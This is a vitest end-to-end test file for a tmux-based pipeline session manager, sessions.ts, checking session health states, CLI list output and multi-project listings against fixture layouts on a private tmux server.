/**
 * End-to-end tests of sessions.ts: the CLI as a user runs it (a child process) and the library calls,
 * against real tmux on this file's own server (its own -L socket under its own TMUX_TMPDIR) and the
 * real `.claude/` layouts in fixtures/layouts/. Nothing here talks to the default tmux server.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test as vitestTest } from 'vitest'
import { spawn, spawnSync, execFileSync, type ChildProcess } from 'node:child_process'
import { createHash, randomUUID } from 'node:crypto'
import { createServer, request as httpRequest, type IncomingHttpHeaders, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import {
  appendFileSync,
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  readlinkSync,
  realpathSync,
  renameSync,
  symlinkSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  lstatSync,
  statSync,
  rmSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import {
  list,
  status,
  main,
  serve,
  scanCleanup,
  applyCleanup,
  SessionsError,
  internals,
  type SessionRow,
  type WebServer,
  type ListResult,
  type StatusResult,
  type CostResult,
  type UsageTotals,
} from './sessions.ts'

const { listTmuxSessions, processDescendants, isPidAlive, processStartTime, taggedProcesses } = internals

/**
 * vitest.config.ts runs this file in several processes at once, each with its own tmux server and folder
 * (BASE, SOCKET below): part P of N declares every N-th test in file order, so that each test runs once and
 * the long ones spread over the parts. Tests share nothing but the machine.
 */
const PART = Number(process.env.SESSIONS_TEST_PART ?? 0)
const PARTS = Number(process.env.SESSIONS_TEST_PARTS ?? 1)
let declared = 0
const ours = () => declared++ % PARTS === PART
/** A declarer of tests that declares its test only in the part that owns it. */
const inThisPart = <F extends (...args: never[]) => unknown>(declarer: () => F): F =>
  ((...args: Parameters<F>) => (ours() ? declarer()(...args) : undefined)) as F
const test = Object.assign(
  inThisPart(() => vitestTest),
  {
    each: ((...cases: Parameters<typeof vitestTest.each>) => inThisPart(() => vitestTest.each(...cases))) as typeof vitestTest.each,
    skipIf: (condition: unknown) => inThisPart(() => vitestTest.skipIf(condition)),
    runIf: (condition: unknown) => inThisPart(() => vitestTest.runIf(condition)),
  },
)

const HERE = path.dirname(fileURLToPath(import.meta.url))
const SESSIONS = path.join(HERE, 'sessions.ts')
const TSX = path.join(HERE, 'node_modules', '.bin', 'tsx')
const LAYOUTS = path.join(HERE, 'fixtures', 'layouts')
const ENGINE = path.join(HERE, 'fixtures', 'engine', 'scripts')
/** The Node under test runs .ts files itself (22.18+): the real entry is then `node sessions.ts`. */
const NATIVE = Boolean((process.features as { typescript?: unknown }).typescript)
/** How the tool names itself in help, run in-process from HERE. */
const SELF = `${NATIVE ? 'node' : TSX} sessions.ts`

// A short base path: tmux sockets fail past about 100 characters.
const BASE = mkdtempSync('/tmp/sessions-test-')
const SOCKET = `t${process.pid}`
// This process and every child it starts use the private server only.
process.env.TMUX_TMPDIR = BASE
process.env.SESSIONS_TMUX_SOCKET = SOCKET
// The registry of projects (list --all) lives here, never in the machine's own state folder.
process.env.XDG_STATE_HOME = path.join(BASE, 'state')
// The agents' transcripts (cost) and this tool's prices are looked for here, never in the user's own folders.
process.env.CLAUDE_CONFIG_DIR = path.join(BASE, 'claude')
process.env.CODEX_HOME = path.join(BASE, 'codex')
process.env.XDG_CONFIG_HOME = path.join(BASE, 'config')
delete process.env.TMUX
const ENV: NodeJS.ProcessEnv = { ...process.env, NO_COLOR: '1' }

function tmux(...args: string[]): string {
  // A server whose last session just ended exits; a command that reached it meanwhile was not run and is
  // asked again (as the tool itself does), once the server is gone or a new one starts.
  for (let attempt = 1; ; attempt++) {
    const result = spawnSync('tmux', ['-L', SOCKET, ...args], { env: ENV, encoding: 'utf8' })
    if (result.status === 0) return result.stdout
    if (!/server exited unexpectedly/.test(result.stderr) || attempt === 4)
      throw new Error(`tmux ${args.join(' ')}: exit ${result.status}: ${result.stderr}`)
    spawnSync('sleep', [String(0.05 * attempt)])
  }
}

function tmuxSessionNames(): string[] {
  const result = spawnSync('tmux', ['-L', SOCKET, 'list-sessions', '-F', '#{session_name}'], { env: ENV, encoding: 'utf8' })
  return result.status === 0 ? result.stdout.trim().split('\n').sort() : []
}

const children: ChildProcess[] = []
function startSleeper(): number {
  const child = spawn('sleep', ['3600'], { stdio: 'ignore' })
  children.push(child)
  return child.pid!
}

/** Process groups this file started: each ended whole after its test (flock's sleep outlives a flock killed alone). */
const groups: number[] = []

/**
 * A stand-in for a live engine, as the kernel sees one: flock(1) holds the lock file's flock and runs sleep
 * below it, in a process group of their own.
 */
function startLockHolder(lockFile: string, env: NodeJS.ProcessEnv = process.env): number {
  const child = spawn('flock', ['-n', lockFile, 'sleep', '3600'], { stdio: 'ignore', detached: true, env })
  groups.push(child.pid!)
  return child.pid!
}

/** A child in a process group of its own (an engine and its agents, say), ended whole after its test. */
function spawnGroup(file: string, args: string[], options: Parameters<typeof spawn>[2]): ChildProcess {
  const child = spawn(file, args, { ...options, detached: true })
  groups.push(child.pid!)
  return child
}

/** Ends every process group started by the last test, and every child, at once (SIGKILL). */
function endChildren(): void {
  for (const group of groups.splice(0))
    try {
      process.kill(-group, 'SIGKILL')
    } catch {
      /* gone */
    }
  for (const child of children.splice(0)) child.kill('SIGKILL')
}

/**
 * Processes of this suite still alive: every process this file starts (tmux and what runs in it included)
 * carries its TMUX_TMPDIR in the environment it was started with.
 */
function processesOfThisSuite(): { pid: number; command: string }[] {
  const found: { pid: number; command: string }[] = []
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry) || Number(entry) === process.pid) continue
    try {
      const environ = readFileSync(`/proc/${entry}/environ`, 'utf8').split('\0')
      if (!environ.includes(`TMUX_TMPDIR=${BASE}`)) continue
      found.push({ pid: Number(entry), command: readFileSync(`/proc/${entry}/cmdline`, 'utf8').replaceAll('\0', ' ').trim() })
    } catch {
      /* gone, or another user's */
    }
  }
  return found
}

/** Until the kernel lists a flock on the file (the holder has taken it). */
async function flockTaken(file: string): Promise<void> {
  await waitFor(`the flock on ${file}`, () => readFileSync('/proc/locks', 'utf8').includes(`:${statSync(file).ino} `))
}

/** A PID that is certainly not running: a process that has already exited. */
async function deadPid(): Promise<number> {
  const child = spawn('true', { stdio: 'ignore' })
  await new Promise((resolve) => child.on('exit', resolve))
  return child.pid!
}

function isoSeconds(ms: number): string {
  return new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z')
}

interface Facts {
  tmux: string[]
  locks: { file: string; pid_alive: boolean; pid_reused?: boolean }[]
}

let projects = 0
/**
 * Copies a fixture layout into a new temporary project and makes alive what its FACTS.json says:
 * tmux sessions started in the project, and lock PIDs that are real live (or dead) processes.
 */
async function makeProject(fixture: string): Promise<string> {
  const dir = path.join(BASE, `${fixture}-${++projects}`)
  cpSync(path.join(LAYOUTS, fixture), dir, { recursive: true })
  const facts: Facts = JSON.parse(readFileSync(path.join(dir, 'FACTS.json'), 'utf8'))
  rmSync(path.join(dir, 'FACTS.json'))
  // A live engine holds the kernel flock on its lock file (docs/formats.md §1): here flock(1) does.
  const engineLock = (name: string) => facts.locks.find((lock) => lock.file === `${name}.lock` && lock.pid_alive && !lock.pid_reused)
  for (const name of facts.tmux) {
    const lock = engineLock(name.replace(/^pipeline-/, ''))
    tmux('new-session', '-d', '-s', name, '-c', dir, lock ? `flock -n .claude/locks/${lock.file} sleep 3600` : 'sleep 3600')
  }
  for (const lock of facts.locks) {
    const file = path.join(dir, '.claude', 'locks', lock.file)
    const name = lock.file.replace(/\.lock$/, '')
    let pid: number
    let startedAt = Date.now()
    if (!lock.pid_alive) pid = await deadPid()
    else if (lock.pid_reused) {
      pid = startSleeper()
      startedAt -= 3600_000
    } else if (facts.tmux.includes(`pipeline-${name}`)) {
      // The engine is the pane's process, as when run.sh starts it in tmux.
      pid = Number(tmux('display-message', '-p', '-t', `=pipeline-${name}:`, '#{pane_pid}').trim())
    } else pid = startLockHolder(file)
    if (lock.pid_alive && !lock.pid_reused) await flockTaken(file)
    const json = JSON.parse(readFileSync(file, 'utf8'))
    writeFileSync(file, `${JSON.stringify({ ...json, pid, started_at: isoSeconds(startedAt) }, null, 2)}\n`)
  }
  return dir
}

/** Every path under dir with a hash of its content: equal snapshots mean nothing was changed. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {}
  const walk = (d: string) => {
    for (const entry of readdirSync(d)) {
      const p = path.join(d, entry)
      const st = lstatSync(p)
      if (st.isSymbolicLink()) {
        out[path.relative(dir, p)] = `link ${readlinkSync(p)}`
      } else if (st.isDirectory()) {
        out[`${path.relative(dir, p)}/`] = `dir ${st.mode}`
        walk(p)
      } else {
        out[path.relative(dir, p)] = `${st.mode} ${createHash('sha1').update(readFileSync(p)).digest('hex')}`
      }
    }
  }
  walk(dir)
  return out
}

/** What the /sessions command file lets Claude run without asking: the commands of its allowed-tools. */
function allowedCommands(text: string): string[] {
  const line = /^allowed-tools: (.*)$/m.exec(text)![1]
  return [...line.matchAll(/Bash\(([^)]*)\)/g)].map((m) => {
    expect(m[1]).toMatch(/ [a-z]+:\*$/)
    return /([a-z]+):\*$/.exec(m[1])![1]
  })
}

/** The commands that change nothing and run nothing but this tool: all an agent may run unasked. */
const READ_ONLY_COMMANDS = ['list', 'status', 'cost', 'monitor', 'wait', 'events', 'help', 'version']
/** Flags that run a program, send something out, or change files or processes. */
const RUNS_OR_CHANGES = /^--(runner|exec|webhook|desktop|detach|stop|yes|force|fix|only|grace|allow-actions)$/

/** The flags a command's help lists (its own and the global ones). */
function commandFlags(command: string): string[] {
  let text = ''
  void main(['help', command], {
    stdout: (t) => {
      text += t
    },
    stderr: () => {},
    terminal: false,
    stderrTerminal: false,
    env: ENV,
    cwd: HERE,
    columns: undefined,
  })
  return [...text.matchAll(/(?:^|\s)(--[a-z-]+)/g)].map((m) => m[1])
}

interface Run {
  code: number | null
  stdout: string
  stderr: string
}

/**
 * The command line, in-process: main() with its own streams, environment and folder, off a terminal;
 * `signal` stops it as Ctrl-C would.
 */
async function cli(
  args: string[],
  options: { cwd?: string; env?: NodeJS.ProcessEnv; signal?: AbortSignal; columns?: number } = {},
): Promise<Run> {
  let stdout = ''
  let stderr = ''
  const code = await main(args, {
    stdout: (text) => {
      stdout += text
    },
    stderr: (text) => {
      stderr += text
    },
    env: { ...ENV, ...options.env },
    cwd: options.cwd ?? HERE,
    terminal: false,
    stderrTerminal: false,
    columns: options.columns,
    signal: options.signal,
  })
  return { code, stdout, stderr }
}

/** The real entry, as a user runs it: a child process (tsx, exit status, stdout and stderr apart). */
function cliProcess(args: string[], options: { cwd?: string; env?: NodeJS.ProcessEnv } = {}): Run {
  // Natively where the Node under test strips types itself (22.18+), else through tsx.
  const [file, ...pre] = NATIVE ? [process.execPath, SESSIONS] : [TSX, SESSIONS]
  const result = spawnSync(file, [...pre, ...args], { cwd: options.cwd ?? HERE, env: { ...ENV, ...options.env }, encoding: 'utf8' })
  return { code: result.status, stdout: result.stdout, stderr: result.stderr }
}

/**
 * What a start or a resume said on stderr but the line of its wait, which a loaded machine may make last
 * over a second (off a terminal, a wait says itself once it has).
 */
function withoutWaits(stderr: string): string {
  return stderr.replace(/^sessions: (still )?waiting for \S+ to (start|resume): .* \(\d+[^)]*\)\n/gm, '')
}

async function listJson(root: string, ...flags: string[]) {
  const run = await cli(['list', '--json', '-C', root, ...flags])
  expect(run.stderr).toBe('')
  expect(run.code).toBe(0)
  return JSON.parse(run.stdout) as {
    project: string
    sessions: SessionRow[]
    counts: Record<string, number>
    warnings: unknown[]
    projects?: { project: string; counts: Record<string, number>; sessions: number }[]
  }
}

/**
 * A command as this tool suggests it when run in-process from `cwd` for the project `root`: node where the
 * Node under test runs .ts itself (and is the PATH's node), else this package's tsx by its path (npm test
 * puts it on the PATH, a user's shell may not have it), this file relative to the current folder when
 * inside it, then -C when the current folder is not the root.
 */
function hinted(command: string, root: string, cwd = HERE): string {
  return `${NATIVE ? 'node' : TSX} ${isInsideDir(SESSIONS, cwd) ? path.relative(cwd, SESSIONS) : SESSIONS} ${command}${cwd === root ? '' : ` -C ${root}`}`
}

function isInsideDir(file: string, dir: string): boolean {
  const rel = path.relative(dir, file)
  return !rel.startsWith('..') && !path.isAbsolute(rel)
}

const escaped = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')

function rowOf(rows: SessionRow[], name: string): SessionRow {
  const row = rows.find((r) => r.name === name)
  expect(row, `session ${name} in ${rows.map((r) => r.name).join(', ')}`).toBeDefined()
  return row!
}

beforeAll(() => {
  // A leftover server of this name would make results depend on an earlier run.
  killServer()
})

/** Kills this file's tmux server and waits until it is gone, so that the next test cannot reach a dying one. */
function killServer() {
  spawnSync('tmux', ['-L', SOCKET, 'kill-server'], { env: ENV })
  for (let i = 0; i < 50 && spawnSync('tmux', ['-L', SOCKET, 'list-sessions'], { env: ENV }).status === 0; i++) {
    spawnSync('sleep', ['0.05'])
  }
}

/** Processes a test left behind (after its tmux server and its children were ended): ended, and failed at the end. */
const leaks: string[] = []

afterEach(async (context) => {
  // Each pane is a process group (tmux starts it with setsid): ended whole, as a terminal with job control
  // would end it, so that an engine's agent (orphaned when its engine dies of the hangup) goes with it.
  const panes = spawnSync('tmux', ['-L', SOCKET, 'list-panes', '-a', '-F', '#{pane_pid}'], { env: ENV, encoding: 'utf8' })
  for (const pane of panes.status === 0 ? panes.stdout.split('\n').filter(Boolean) : [])
    try {
      process.kill(-Number(pane), 'SIGKILL')
    } catch {
      /* gone */
    }
  killServer()
  endChildren()
  // A pane's process ends moments after its server (seconds, on a loaded machine). What outlives that was
  // left by this test: an agent of a hung engine, say. (ssh's shared connections serve every test of their
  // block, which ends them.)
  const left = () => processesOfThisSuite().filter(({ command }) => !/^sshd?[: ]/.test(command))
  if (await waitFor('the test’s processes to end', () => left().length === 0, 5_000).catch(() => false)) return
  const stray = left()
  for (const { pid } of stray)
    try {
      process.kill(pid, 'SIGKILL')
    } catch {
      /* gone */
    }
  if (stray.length) leaks.push(`${context.task.name}: ${stray.map(({ command }) => command).join(', ')}`)
})

afterAll(() => {
  killServer()
  rmSync(BASE, { recursive: true, force: true })
})

describe('the module', () => {
  test('importing sessions.ts prints nothing and runs no command', () => {
    const script = path.join(BASE, 'import-only.mts')
    writeFileSync(script, `const m = await import(${JSON.stringify(SESSIONS)})\nif (typeof m.list !== 'function') process.exit(3)\n`)
    const result = spawnSync(TSX, [script, 'list', '--json'], { env: ENV, encoding: 'utf8' })
    expect(result.status).toBe(0)
    expect(result.stdout).toBe('')
    expect(result.stderr).toBe('')
    // Imported by a script that Node was given this file's path as its first argument (node -e … sessions.ts):
    // Node itself says this file is not the main module. (44: the 43 promised values and `internals`.)
    if (NATIVE) {
      const imported = spawnSync(
        process.execPath,
        ['-e', 'import(process.argv[1]).then((m) => console.log(Object.keys(m).length))', SESSIONS, 'list'],
        { env: ENV, encoding: 'utf8' },
      )
      expect([imported.status, imported.stdout, imported.stderr]).toEqual([0, '44\n', ''])
    }
  })

  test('no tmux server means no sessions, not an error', async () => {
    expect(await listTmuxSessions({ socket: `${SOCKET}-none` })).toEqual([])
    const root = await makeProject('complete-loop')
    const run = await cli(['list', '--json', '-C', root, '--socket', `${SOCKET}-none`])
    expect(run.code).toBe(0)
    expect(JSON.parse(run.stdout).sessions.map((s: SessionRow) => s.name)).toEqual(['done-loop'])
  })
})

describe('reference layouts: what a correct manager concludes', () => {
  test('complete-loop: complete, 3/3, reason max_iterations, nothing to clean', async () => {
    const root = await makeProject('complete-loop')
    const result = await listJson(root)
    const row = rowOf(result.sessions, 'done-loop')
    expect(row).toMatchObject({ health: 'complete', type: 'improve-plan', mode: 'loop', iteration: 3, max_iterations: 3, resumable: false })
    expect(row).toMatchObject({ ended_at: '2026-11-25T08:02:09Z', runtime_seconds: 15 })
    expect(result.warnings).toEqual([])
    const detail = await status('done-loop', { root })
    expect(detail.completion_reason).toBe('max_iterations')
    expect(detail.recent_iterations.map((i) => i.iteration)).toEqual([3, 2, 1])
  })

  test('running-loop: running, iteration 2 of 50 from the newest context.json', async () => {
    const root = await makeProject('running-loop')
    const row = rowOf((await listJson(root)).sessions, 'busy')
    expect(row).toMatchObject({ health: 'running', iteration: 2, max_iterations: 50, type: 'improve-plan' })
    expect(row.tmux).toMatchObject({ session: 'pipeline-busy', pane_dead: false })
    expect(row.lock).toMatchObject({ alive: true, genuine: true, proof: 'flock', pid: row.tmux!.pane_pid })
    expect(row.why).toMatch(/engine PID \d+ is alive/)
  })

  test('crashed-loop: crashed (stale lock), resumable from iteration 3', async () => {
    const root = await makeProject('crashed-loop')
    const row = rowOf((await listJson(root)).sessions, 'busy')
    expect(row).toMatchObject({
      health: 'crashed',
      resumable: true,
      resume_from: 3,
      resume_command: hinted('resume busy', root),
    })
    // It ran from its start to its last finished iteration, however long ago that was.
    expect(row).toMatchObject({
      started_at: '2026-11-25T08:02:10Z',
      last_activity_at: '2026-11-25T08:02:16Z',
      runtime_seconds: 6,
      ended_at: null,
    })
    expect(row.evidence).toContain(`lock PID ${row.lock!.pid} is dead`)
  })

  test('tmux-killed-loop: zombie, resumable', async () => {
    const root = await makeProject('tmux-killed-loop')
    const row = rowOf((await listJson(root)).sessions, 'hup')
    expect(row).toMatchObject({ health: 'zombie', resumable: true, resume_from: 2, tmux: null, lock: null })
    expect(row.resume_command).toBe(hinted('resume hup', root))
  })

  test('resumed-loop: complete, 4/4, and the resume shows', async () => {
    const root = await makeProject('resumed-loop')
    const row = rowOf((await listJson(root)).sessions, 'phoenix')
    expect(row).toMatchObject({ health: 'complete', iteration: 4, max_iterations: 4 })
    const detail = await status('phoenix', { root })
    expect(detail.resumed_at).toBe('2026-11-25T08:02:36Z')
    // Its runtime counts from the resume; the total from its first start.
    expect(detail).toMatchObject({ runtime_seconds: 17, total_runtime_seconds: 25 })
    expect((await cli(['status', 'phoenix', '-C', root])).stdout).toMatch(/runtime +17s this run \(since its resume\), 25s in all/)
    expect(detail.recent_iterations.map((i) => i.iteration)).toEqual([4, 3, 2, 1])
  })

  test('failed-loop: failed, with the error shown; resumable from resume_from', async () => {
    const root = await makeProject('failed-loop')
    const row = rowOf((await listJson(root)).sessions, 'broken')
    expect(row).toMatchObject({ health: 'failed', resumable: true, resume_from: 2, error: 'Claude process exited with code 3' })
    const text = await cli(['status', 'broken', '-C', root])
    expect(text.code).toBe(0)
    expect(text.stdout).toMatch(/error\s+Claude process exited with code 3 \(exit_code\)/)
    expect(text.stdout).toContain(hinted('resume broken', root))
  })

  test('parallel-pipeline: complete; status shows each provider and its stages', async () => {
    const root = await makeProject('parallel-pipeline')
    const row = rowOf((await listJson(root)).sessions, 'duo')
    expect(row).toMatchObject({ health: 'complete', mode: 'pipeline', type: 'dual-analyze', stage_kind: 'parallel', stage_name: 'analyze' })
    const detail = await status('duo', { root })
    expect(detail.providers.map((p) => [p.provider, p.status, p.stages.map((s) => s.name)])).toEqual([
      ['claude', 'complete', ['improve', 'elegance']],
      ['codex', 'complete', ['improve', 'elegance']],
    ])
    const text = (await cli(['status', 'duo', '-C', root])).stdout
    expect(text).toMatch(/claude\s+complete\s+improve 1 it \(fixed\), elegance 1 it \(fixed\)/)
  })

  test('running-multistage: running, stage 2 of 2 (refine-tasks), iteration 4 of 5', async () => {
    const root = await makeProject('running-multistage')
    const row = rowOf((await listJson(root)).sessions, 'multi')
    expect(row).toMatchObject({
      health: 'running',
      type: 'refine',
      stage_index: 1,
      stage_count: 2,
      stage_name: 'refine-tasks',
      iteration: 4,
      max_iterations: 5,
    })
    expect((await status('multi', { root })).files.progress).toBe('.claude/pipeline-runs/multi/stage-01-refine-tasks/progress.md')
    const text = (await cli(['list', '-C', root])).stdout
    expect(text).toMatch(/multi\s+refine\s+2\/2 refine-tasks\s+4\/5\s+running/)
  })
})

describe('cases the reference layouts do not show', () => {
  test('a tmux session without a lock: starting within the grace period, orphaned after it', async () => {
    const root = await makeProject('tmux-no-lock')
    expect(rowOf((await listJson(root, '--start-grace', '30')).sessions, 'lonely').health).toBe('starting')
    const row = rowOf((await listJson(root, '--start-grace', '0')).sessions, 'lonely')
    expect(row).toMatchObject({ health: 'orphaned', why: 'tmux session alive, but no engine holds the lock' })
  })

  test('a live lock PID that belongs to a process started after the lock: crashed, never signalled', async () => {
    const root = await makeProject('reused-pid')
    const lock = JSON.parse(readFileSync(path.join(root, '.claude/locks/busy.lock'), 'utf8'))
    const row = rowOf((await listJson(root)).sessions, 'busy')
    expect(row.health).toBe('crashed')
    expect(row.lock).toMatchObject({ pid: lock.pid, alive: true, genuine: false })
    expect(row.evidence).toContain(`lock PID ${row.lock!.pid} is alive but is \`sleep 3600\` in ${HERE}, not the engine of busy`)
    expect(() => process.kill(lock.pid, 0)).not.toThrow()
  })

  test('the older loop- layout: a loop-NAME tmux session and loop_type state', async () => {
    const root = await makeProject('legacy-loop')
    const row = rowOf((await listJson(root)).sessions, 'oldie')
    expect(row).toMatchObject({ health: 'running', type: 'work', iteration: 3, state_file: '.claude/loop-state-oldie.json' })
    expect(row.tmux?.session).toBe('loop-oldie')
    const detail = await status('oldie', { root })
    expect(detail.files.progress).toBe('.claude/loop-progress/progress-oldie.txt')
    expect(detail.recent_iterations[0]).toMatchObject({ iteration: 2, summary: 'Wired the parser in' })
  })

  test('names that are prefixes of each other never stand for each other', async () => {
    const root = await makeProject('prefix-names')
    const rows = (await listJson(root)).sessions
    expect(rowOf(rows, 'auth')).toMatchObject({ health: 'complete', tmux: null, lock: null })
    expect(rowOf(rows, 'auth-v2')).toMatchObject({ health: 'running', tmux: { session: 'pipeline-auth-v2' } })
    const auth = await status('auth', { root })
    expect(auth.tmux).toBeNull()
    expect(JSON.stringify(auth)).not.toContain('auth-v2')
  })

  test('a session of another project on the same server: hidden, shown with --all, never merged', async () => {
    const root = await makeProject('shared-name')
    const other = await makeProject('other-project')
    const result = await listJson(root)
    expect(result.sessions.map((s) => s.name)).toEqual(['shared'])
    expect(rowOf(result.sessions, 'shared')).toMatchObject({ health: 'complete', tmux: null })
    expect(result.projects).toBeUndefined()
    // --all: every project's sessions, whole rows, each carrying its project; same names never merged.
    const all = await listJson(root, '--all')
    expect(all.sessions.map((s) => [s.project, s.name, s.health])).toEqual([
      [root, 'shared', 'complete'],
      [other, 'elsewhere', 'starting'],
      [other, 'shared', 'running'],
    ])
    expect(all.projects).toEqual([
      { project: root, host: null, counts: { complete: 1 }, sessions: 1 },
      { project: other, host: null, counts: { running: 1, starting: 1 }, sessions: 2 },
    ])
    expect(all.counts).toEqual({ running: 1, starting: 1, complete: 1 })
    const text = (await cli(['list', '--all', '-C', root])).stdout
    expect(text).toMatch(new RegExp(`^Sessions in ${escaped(root)}\n\nNAME .*\nshared .*complete`, 'm'))
    expect(text).toMatch(new RegExp(`^Sessions in ${escaped(other)}\n\nNAME .*\nelsewhere .*starting.*\nshared .*running`, 'm'))
    // From the other project, its own sessions are its own.
    const theirs = await listJson(other)
    expect(rowOf(theirs.sessions, 'shared').health).toBe('running')
    const missing = await cli(['status', 'elsewhere', '-C', root])
    expect(missing.code).toBe(1)
    // Both live at once (this one's engine holds its lock, the other's runs in tmux): still two rows.
    const lockFile = path.join(root, '.claude/locks/shared.lock')
    mkdirSync(path.dirname(lockFile), { recursive: true })
    writeFileSync(lockFile, '')
    const holder = startLockHolder(lockFile)
    await flockTaken(lockFile)
    writeFileSync(lockFile, JSON.stringify({ session: 'shared', pid: holder, started_at: isoSeconds(Date.now()) }))
    const live = await listJson(root, '--all')
    expect(live.sessions.filter((s) => s.name === 'shared').map((s) => [s.project, s.health, s.lock?.pid ?? s.tmux?.session])).toEqual([
      [root, 'running', holder],
      [other, 'running', expect.any(Number)],
    ])
  })

  test('list --all also lists the projects this tool started sessions in, after their tmux sessions are gone; a project removed is dropped', async () => {
    const started = await makeEngineProject()
    const gone = await makeEngineProject()
    const here = await makeProject('empty')
    // One after the other: a tmux server has one pipeline-quick at a time.
    for (const root of [started, gone]) {
      expect((await cli(['start', 'ralph', 'quick', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })).code).toBe(0)
      await waitFor('its end', async () => rowOf((await listJson(root)).sessions, 'quick').health === 'complete')
      await waitFor('its tmux session gone', () => !tmuxSessionNames().includes('pipeline-quick'))
    }
    const registry = path.join(process.env.XDG_STATE_HOME!, 'sessions-ts', 'projects')
    expect(readFileSync(registry, 'utf8').split('\n')).toEqual(expect.arrayContaining([started, gone]))
    rmSync(gone, { recursive: true, force: true })
    const all = await listJson(here, '--all')
    // Same-named sessions of two projects: two rows, never one.
    expect(all.sessions.filter((row) => row.name === 'quick').map((row) => row.project)).toEqual([started])
    expect(all.projects?.map((p) => p.project)).toEqual(expect.arrayContaining([here, started]))
    expect(all.projects?.map((p) => p.project)).not.toContain(gone)
    // In text, one table per project, this one first.
    const text = (await cli(['list', '--all'], { cwd: here })).stdout
    expect(text.indexOf(`No pipeline sessions in ${here}.`)).toBeLessThan(text.indexOf(`Sessions in ${started}\n`))
    expect(text.indexOf(`Sessions in ${started}\n`)).toBeGreaterThan(0)
  })

  test('empty, truncated, non-JSON and directory-instead-of-file state and lock files: corrupt, named, unchanged', async () => {
    const root = await makeProject('bad-files')
    const before = snapshot(root)
    const rows = (await listJson(root)).sessions
    const why = Object.fromEntries(rows.map((r) => [r.name, [r.health, r.why]]))
    expect(why).toEqual({
      'empty-state': ['corrupt', 'corrupt: state.json: empty file'],
      'truncated-state': ['corrupt', expect.stringMatching(/^corrupt: state\.json: .*JSON/)],
      'nonjson-state': ['corrupt', expect.stringMatching(/^corrupt: state\.json: Unexpected token/)],
      'dir-state': ['corrupt', 'corrupt: state.json: is a directory, not a file'],
      'wrongtype-state': ['corrupt', 'corrupt: state.json: iteration: Invalid input: expected number, received string'],
      'empty-lock': ['corrupt', 'corrupt: empty-lock.lock: empty file'],
      'truncated-lock': ['corrupt', expect.stringMatching(/^corrupt: truncated-lock\.lock: .*JSON/)],
      'nonjson-lock': ['corrupt', expect.stringMatching(/^corrupt: nonjson-lock\.lock: Unexpected token/)],
      'dir-lock': ['corrupt', 'corrupt: dir-lock.lock: is a directory, not a file'],
    })
    for (const name of Object.keys(why)) {
      const run = await cli(['status', name, '-C', root])
      expect(run.code).toBe(0)
      expect(run.stdout).toContain('corrupt')
    }
    expect((await cli(['list', '-C', root])).code).toBe(0)
    expect(snapshot(root)).toEqual(before)
  })

  test('an unreadable state file is corrupt, not a crash', async () => {
    if (process.getuid?.() === 0) {
      // root reads any file; an unreadable file cannot be made here, so check the message on a read error instead.
      const root = await makeProject('crashed-loop')
      const state = path.join(root, '.claude/pipeline-runs/busy/state.json')
      rmSync(state)
      mkdirSync(state)
      expect(rowOf((await listJson(root)).sessions, 'busy').why).toBe('corrupt: state.json: is a directory, not a file')
      return
    }
    const root = await makeProject('crashed-loop')
    const state = path.join(root, '.claude/pipeline-runs/busy/state.json')
    chmodSync(state, 0o000)
    try {
      expect(rowOf((await listJson(root)).sessions, 'busy').why).toBe('corrupt: state.json: cannot be read (permission denied)')
    } finally {
      chmodSync(state, 0o644)
    }
  })
})

describe('list as a user runs it', () => {
  test('rows, counts, warnings with resume commands, next actions', async () => {
    const root = await makeProject('crashed-loop')
    cpSync(path.join(LAYOUTS, 'complete-loop/.claude/pipeline-runs'), path.join(root, '.claude/pipeline-runs'), { recursive: true })
    cpSync(path.join(LAYOUTS, 'tmux-killed-loop/.claude/pipeline-runs'), path.join(root, '.claude/pipeline-runs'), { recursive: true })
    const run = await cli(['list', '-C', root])
    expect(run.code).toBe(0)
    expect(run.stderr).toBe('')
    const lines = run.stdout.split('\n')
    expect(lines).toContain('1 crashed · 1 zombie · 1 complete')
    expect(run.stdout).toMatch(/NAME\s+TYPE\s+STAGE\s+ITER\s+HEALTH\s+TIME/)
    expect(run.stdout).toMatch(/busy\s+improve-plan\s+-\s+2\/50\s+crashed\s+last seen/)
    expect(run.stdout).toMatch(/done-loop\s+improve-plan\s+-\s+3\/3\s+complete\s+ended .* ago/)
    expect(run.stdout).toContain('busy: crashed (lock left with dead PID')
    expect(run.stdout).toContain(`resume: ${hinted('resume busy', root)}`)
    expect(run.stdout).toContain(`resume: ${hinted('resume hup', root)}`)
    expect(run.stdout).toContain(`Next:\n  ${hinted('status busy', root)}`)
  })

  test('a running session whose iteration has not finished for long gets a warning', async () => {
    const root = await makeProject('running-loop')
    // The fixture's last iteration finished at its capture time; make it two hours old whatever today is.
    const stateFile = path.join(root, '.claude/pipeline-runs/busy/state.json')
    const state = JSON.parse(readFileSync(stateFile, 'utf8'))
    const twoHoursAgo = Date.now() - 2 * 3600_000
    state.started_at = isoSeconds(twoHoursAgo - 600_000)
    state.history.at(-1).timestamp = isoSeconds(twoHoursAgo)
    state.iteration_started = null
    writeFileSync(stateFile, JSON.stringify(state))
    expect((await listJson(root)).warnings).toEqual([
      {
        session: 'busy',
        project: root,
        kind: 'stalled',
        why: expect.any(String),
        since: isoSeconds(twoHoursAgo),
        iteration: 2,
        resume_command: null,
      },
    ])
    expect((await cli(['list', '-C', root])).stdout).toMatch(/! busy: running, but no iteration has finished for 2h 0m \(iteration 2\)\n/)
    // A current iteration that started recently is not a stall, however old the session.
    state.iteration_started = isoSeconds(Date.now() - 60_000)
    writeFileSync(stateFile, JSON.stringify(state))
    expect((await listJson(root)).warnings).toEqual([])
    expect((await listJson(root, '--stall', '0.5')).warnings).toHaveLength(1)
  })

  test('an empty project says so and shows how to start a session', async () => {
    const root = await makeProject('empty')
    const run = await cli(['list', '-C', root])
    expect(run.code).toBe(0)
    expect(run.stdout).toContain(`No pipeline sessions in ${root}.`)
    // Without an engine, a start would fail: the pointer is to the engine.
    expect(run.stdout).toContain('see https://github.com/hwells4/agent-pipelines')
